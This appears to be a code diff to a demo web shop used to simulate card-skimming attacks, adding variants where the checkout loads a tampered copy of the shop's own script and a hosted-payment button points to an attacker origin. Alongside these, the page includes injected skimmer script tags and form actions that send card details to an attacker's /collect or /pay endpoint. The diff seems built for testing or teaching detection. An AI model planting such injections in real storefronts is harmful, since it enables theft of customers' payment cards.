@@ -9,6 +9,7 @@
 import type { IncomingMessage, ServerResponse } from 'node:http';
 import { escapeHtml, readForm, sendHtml, sendStatus, startSite, type RunningSite } from './http.js';
 import type { ListenAddress } from '../listen.js';
+import { CHECKOUT_SCRIPT, CHECKOUT_SOURCE, sendScript, SKIMMED_SCRIPT, skimmedSource } from './first-party.js';
 import { layout, SHOP_BRAND } from './layout.js';
 import { skimmerSource } from './skimmer.js';
 import { isVariantName, VARIANT_NAMES, VARIANTS, variantUrl, type VariantName } from './variants.js';
@@ -68,6 +69,9 @@ async function route(sites: StorefrontSites, req: IncomingMessage, res: ServerRe
     return sendStatus(res, 302, { Location: `${target}?amount=${PRODUCT.priceYen}` });
   }
   if (read && url.pathname === '/demo') return sendHtml(res, 200, controlPage(sites));
+  if (read && url.pathname === CHECKOUT_SCRIPT) return sendScript(res, CHECKOUT_SOURCE);
+  // Left on the server by the intruder of the skimmed-bundle variant (it is there whatever the query).
+  if (read && url.pathname === SKIMMED_SCRIPT) return sendScript(res, skimmedSource(sites.attackerOrigin));
   sendHtml(res, 404, layout(SHOP_BRAND, 'Not found', '<h1>Not found</h1><p><a href="/">Back to the shop</a></p>'));
 }
 
@@ -113,11 +117,15 @@ function cartPage(filled: boolean, variant: VariantName | undefined): string {
 function checkoutPage(sites: StorefrontSites, variant: VariantName | undefined): string {
   // The break-in of 2019 changed exactly one thing: where the card form posts.
   const action = variant === 'fake-form-2019' ? `${sites.attackerOrigin}/pay` : `${sites.gatewayOrigin}/pay`;
+  // Issue 17 class 4: the only change is the URL in the data the shop's own script follows.
+  const hosted = variant === 'carried-payment-url' ? `${sites.attackerOrigin}/pay` : `${sites.gatewayOrigin}/pay`;
   const head =
     variant === 'meta-refresh' ? `<meta http-equiv="refresh" content="2; url=${sites.attackerOrigin}/pay?amount=${PRODUCT.priceYen}">\n` : '';
   let tail = '';
   if (variant === 'skimmer-script') tail = `<script src="${sites.attackerOrigin}/skimmer.js"></script>\n`;
   if (variant === 'inline-skimmer') tail = `<script>\n${skimmerSource(`${sites.attackerOrigin}/collect`)}</script>\n`;
+  // The shop's own checkout script; after the break-in, the page names the skimmed copy instead.
+  tail += `<script src="${variant === 'skimmed-bundle' ? SKIMMED_SCRIPT : CHECKOUT_SCRIPT}"></script>\n`;
   return layout(
     SHOP_BRAND,
     'Checkout',
@@ -132,7 +140,8 @@ function checkoutPage(sites: StorefrontSites, variant: VariantName | undefined):
 <label for="cvc">Security code</label><input id="cvc" name="cvc" autocomplete="cc-csc" inputmode="numeric" value="123">
 <button type="submit">Pay ¥${PRODUCT.priceYen.toLocaleString('en')}</button>
 </form>
-<p>Or <a href="${withVariant('/checkout/pay', variant)}">pay on the gateway's own page</a>.</p>
+<p>Or <a href="${withVariant('/checkout/pay', variant)}">pay on the gateway's own page</a>,
+or <button type="button" data-hosted-payment-url="${hosted}">pay on the gateway's hosted page</button>.</p>
 <p class="note">Demo: the card fields hold the public test number 4111 1111 1111 1111. Never type a real card here.</p>
 ${tail}`,
     head,
